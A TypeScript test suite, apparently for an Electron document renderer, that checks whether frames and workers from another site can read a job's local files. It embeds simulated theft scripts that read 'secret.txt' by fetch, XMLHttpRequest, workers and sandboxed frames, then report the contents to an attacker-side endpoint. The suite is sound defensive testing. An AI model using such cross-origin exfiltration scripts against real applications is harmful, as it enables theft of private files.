/** A document can read the files of its job, but frames of other sites inside the document cannot. */
import assert from 'node:assert/strict';
import { EventEmitter, once } from 'node:events';
import { test } from 'node:test';
import type { WebContents } from 'electron';
import { loadPage } from '../../main/engine/loading/load-page.ts';
import type { Files, Source } from '../../main/input/source.ts';
import { readHostPattern } from '../../main/network/policy.ts';
import { newRun, startEngine } from '../support/service/engine.ts';
import { serveWeb, type Routes } from '../support/servers/web-server.ts';

const script =
  (text: string): Routes[string] =>
  (_request, response) =>
    response.writeHead(200, { 'content-type': 'text/javascript' }).end(text);

/** Script functions that request a file of the job, and report the text they could read to the server of the frame. */
const steal = `
  const report = (way, text) => fetch('/came?' + encodeURIComponent(way + ': ' + text));
  const ask = (way, init) => fetch('platen://job/secret.txt', init)
    .then((answer) => answer.text()).then((text) => report(way, text), () => report(way, ''));`;

const framedPage = `<script>${steal}
    const answer = new Promise((resolve) => {
      const asking = new XMLHttpRequest();
      asking.open('GET', 'platen://job/secret.txt');
      asking.onloadend = () => resolve(report('XMLHttpRequest', asking.responseText));
      asking.send();
    });
    const child = document.createElement('iframe');
    child.sandbox = 'allow-scripts';
    child.srcdoc = '<script>fetch("platen://job/secret.txt").then((answer) => answer.text())' +
      '.then((text) => parent.postMessage(text, "*"), () => parent.postMessage("", "*"))</scr' + 'ipt>';
    document.documentElement.append(child);
    addEventListener('message', ({ data }) => report('a frame without an origin', data));
    ask('fetch');
    ask('fetch without CORS', { mode: 'no-cors' });
    new Worker('/worker.js');
    new SharedWorker('/worker.js');
  </script>`;

const workerScript = `${steal} ask(self.constructor.name, { referrerPolicy: 'no-referrer' });`;

const ways = [
  'DedicatedWorkerGlobalScope',
  'SharedWorkerGlobalScope',
  'XMLHttpRequest',
  'a frame without an origin',
  'fetch without CORS',
  'fetch',
];

test('a frame of another site, and its workers, cannot read files of the job', async () => {
  const read = await readBy(ways, {
    page: framedPage,
    document: (url) => `<iframe src="${url}/"></iframe>`,
  });
  assert.deepEqual(
    read,
    ways.map((way) => `${way}: `),
  );
});

test('a page of another site to which the document navigates, and its workers, cannot read files of the job', async () => {
  const read = await readBy(['DedicatedWorkerGlobalScope', 'fetch'], {
    page: `<script>${steal} ask('fetch'); new Worker('/worker.js');</script>`,
    document: (url) => `<script>location = '${url}/'</script>`,
  });
  assert.deepEqual(read, ['DedicatedWorkerGlobalScope: ', 'fetch: ']);
});

// Chromium may report the request of a page's first script before it reports that the page has replaced the frame's previous one.
for (const element of ['iframe', 'object'])
  test(`an ${element} that has begun to load a page of another site cannot read files of the job`, async () => {
    const requested = new EventEmitter();
    const begun = once(requested, 'page');
    await using web = await serveWeb({ '/': () => requested.emit('page') });
    const html = `<body><script>
      const frame = document.createElement('${element}');
      const load = (address) => new Promise((resolve) => {
        frame.onload = resolve;
        frame['${element === 'iframe' ? 'src' : 'data'}'] = address;
      });
      const read = async () => {
        try {
          return await (await frame.contentWindow.fetch('/secret.txt')).text();
        } catch {
          return '';
        }
      };
      document.body.append(frame);
      const loaded = load('/page.html');
      const leave = () => void load('${web.url}/');
    </script>`;
    const read = await withDocument(html, async (page) => {
      await page.executeJavaScript('loaded');
      await page.executeJavaScript('leave()');
      await begun;
      const whileLoading: unknown = await page.executeJavaScript('read()');
      await page.executeJavaScript("load('/page.html')");
      return [whileLoading, (await page.executeJavaScript('read()')) as unknown];
    });
    assert.deepEqual(read, ['', 'SECRET']);
  });

test('a document with a frame of another site can read the files of its job, including by root-relative URLs', async () => {
  await using web = await serveWeb({ '/': 'other' });
  const html = `<body><script>
    const framed = async (src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      await new Promise((resolve) => document.body.append(Object.assign(frame, { onload: resolve })));
      return frame;
    };
    const text = async (address) => (await fetch(address)).text();
    const done = (async () => {
      await framed('${web.url}/');
      const { contentDocument } = await framed('/secret.txt');
      const { word } = await import('/folder/module.js');
      return [await text('/secret.txt'), await text('secret.txt'), word, contentDocument.body.innerText];
    })();
  </script>`;
  const read = await withDocument(html, (page) => page.executeJavaScript('done'));
  assert.deepEqual(read, ['SECRET', 'SECRET', 'beside', 'SECRET']);
});

const embedded: Readonly<Record<string, string>> = {
  'an image of': '<object data="/image.svg" type="image/svg+xml">',
  'a picture of': '<object data="/picture.png" type="image/png">',
  'a PDF of': '<embed src="/file.pdf" type="application/pdf">',
  'a file without a type of': '<object data="/image.svg">',
};
for (const [what, html] of Object.entries(embedded))
  test(`a document that embeds ${what} another site can read the files of its job`, async () => {
    const image: Routes[string] = (_request, response) =>
      response
        .writeHead(200, { 'content-type': 'image/svg+xml' })
        .end('<svg xmlns="http://www.w3.org/2000/svg"/>');
    await using web = await serveWeb({ '/image.svg': image, '/picture.png': image, '/file.pdf': '%PDF-1.4' });
    const page = `<body>${html.replace('="/', `="${web.url}/`)}</body>`;
    const read = await withDocument(page, (contents) =>
      contents.executeJavaScript("fetch('/secret.txt').then((answer) => answer.text())"),
    );
    assert.equal(read, 'SECRET');
  });

interface Theft {
  /** The HTML of the other site's page. */
  readonly page: string;
  /** Returns the HTML of the document, given the address of the other site. */
  readonly document: (url: string) => string;
}

/** Loads the document, and returns what the other site's page has reported, sorted, when it has tried all ways. */
async function readBy(triedWays: readonly string[], { page, document }: Theft): Promise<readonly string[]> {
  const results: string[] = [];
  const counted = new EventEmitter();
  const all = once(counted, 'all');
  await using web = await serveWeb({
    '/': page,
    '/worker.js': script(workerScript),
    '/came': ({ url = '' }, response) => {
      results.push(decodeURIComponent(url.split('?')[1] ?? ''));
      response.end();
      if (results.length === triedWays.length) counted.emit('all');
    },
  });
  await withDocument(document(web.url), () => all);
  return results.sort();
}

const contents: Readonly<Record<string, readonly [type: string, text: string]>> = {
  'secret.txt': ['text/plain', 'SECRET'],
  'page.html': ['text/html', 'a page of the job'],
  'folder/module.js': ['text/javascript', "export { word } from './beside.js';"],
  'folder/beside.js': ['text/javascript', "export const word = 'beside';"],
};

const files: Files = (path) => {
  const [contentType, text] = contents[path] ?? [];
  if (contentType === undefined || text === undefined) return Promise.resolve(undefined);
  return Promise.resolve({ contentType, size: text.length, body: Buffer.from(text) });
};

/** Loads a document with these sibling files, and keeps its window until `use` has ended. */
async function withDocument(html: string, use: (page: WebContents) => Promise<unknown>): Promise<unknown> {
  const allow = [readHostPattern('127.0.0.1')].filter((pattern) => pattern !== undefined);
  await using engine = await startEngine({ network: { rules: { policy: 'intranet', allow, deny: [] } } });
  const source: Source = {
    kind: 'document',
    path: 'index.html',
    contentType: 'text/html',
    scripts: true,
    bytes: Buffer.from(html),
    files,
  };
  return await engine.withWindow(newRun(''), source, async (window, limited) => {
    await loadPage(window, source, limited);
    return use(window.contents);
  });
}
